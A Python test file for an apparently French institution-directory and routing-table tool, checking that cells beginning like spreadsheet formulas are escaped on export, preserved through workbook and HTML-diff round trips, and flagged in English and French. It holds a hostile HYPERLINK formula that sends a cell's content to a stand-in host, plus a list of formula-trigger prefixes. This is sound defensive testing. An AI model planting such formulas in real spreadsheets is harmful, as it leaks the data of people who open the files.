"""What comes from outside and begins like a formula is run nowhere, and comes back as it was."""

import csv
import re
from datetime import date
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.tables import importing, keeping, template
from gateway.tables.checking import check
from gateway.tables.comparing import compare, in_html
from gateway.tables.drafting import draft
from ir_directory.formula import is_run
from ir_directory.load import load
from routing_tables.release import ROOT, tables
from tests.tables.conftest import few_communes

HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"CPAM")'
INSTITUTIONS = "ir_directory/institutions.csv"
QUESTIONS = "routing_tables/questions/en.csv"
AIN = "FR:0101100000"
DAY = date(2027, 1, 1)


@pytest.fixture
def folder(tmp_path):
    """A draft in which an institution has such a name."""
    draft(tmp_path / "draft", "2027-01")
    path = tmp_path / "draft" / INSTITUTIONS
    rows = [{**row, "name": HOSTILE} if row["id"] == AIN else row for row in keeping.rows(path)]
    keeping.write(path, keeping.header(path), rows)
    return tmp_path / "draft"


def cells(path):
    with path.open(encoding="utf-8-sig", newline="") as lines:
        return {cell for row in csv.reader(lines, delimiter=";") for cell in row}


def test_no_cell_of_the_shipped_release_is_run():
    for table in tables(ROOT):
        assert not [cell for cell in cells(ROOT / table) if is_run(cell)], table


def test_it_is_kept_with_an_apostrophe_and_used_without(folder):
    kept = cells(folder / INSTITUTIONS)
    assert f"'{HOSTILE}" in kept
    assert not any(map(is_run, kept))
    assert load(folder / "ir_directory").institution(AIN).name == HOSTILE
    assert not [finding for finding in check(folder, DAY) if finding.error]


def test_it_goes_through_a_workbook_unchanged(folder, tmp_path):
    few_communes(folder)
    before = (folder / INSTITUTIONS).read_bytes()
    template.write(tmp_path / "t.xlsx", folder)
    found = importing.read(tmp_path / "t.xlsx")
    assert found.findings == []
    importing.store(found, folder)
    assert (folder / INSTITUTIONS).read_bytes() == before


def test_the_difference_is_told_as_it_is_and_the_page_runs_nowhere(folder):
    changes = compare(ROOT, folder)
    (change,) = changes
    assert change.changes == (("name", "Caisse primaire d'assurance maladie de l'Ain", HOSTILE),)
    page = in_html("a", "b", changes, "fr")
    shown = [unescape(cell) for cell in re.findall("<td>(.*?)</td>", page)]
    assert f"'{HOSTILE}" in shown
    assert not any(map(is_run, shown))


@pytest.mark.parametrize("cell", ["=1+1", "+33 1", "-x", "@x", "\tx", "\rx"])
def test_an_import_and_a_check_refuse_it_with_its_cell_in_both_languages(folder, tmp_path, cell):
    path = tmp_path / "questions-en.csv"
    path.write_text(f'datum;section;item;text\ntown;a;b;"{cell}"\n', "utf-8", newline="")
    (found,) = importing.read(path).findings
    assert (found.error, found.file, found.column) == (True, "questions-en.csv!D2", "text")
    assert "like a formula" in found.english
    assert "comme une formule" in found.french
    with (folder / QUESTIONS).open("a", encoding="utf-8", newline="") as lines:
        lines.write(f'work;a;b;"{cell}"\n')
    found = next(f for f in check(folder, DAY) if f.error and "formula" in f.english)
    assert (found.file, found.column) == (QUESTIONS, "text")
    assert "comme une formule" in found.french


texts = st.text(st.sampled_from("='+-@ x5"), min_size=1, max_size=6).map(str.strip)


@given(rows=st.lists(st.tuples(texts, texts, texts, texts), min_size=1, max_size=4))
def test_what_is_written_is_what_is_read_by_every_way(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("t") / "questions-en.csv"
    columns = importing.TABLES[QUESTIONS]
    written = [dict(zip(columns, row, strict=True)) for row in rows]
    keeping.write(path, columns, written)
    assert not any(map(is_run, cells(path)))
    assert keeping.rows(path) == written
    found = importing.read(path)
    assert found.findings == []
    assert found.tables[QUESTIONS] == [list(row) for row in rows if any(row)]
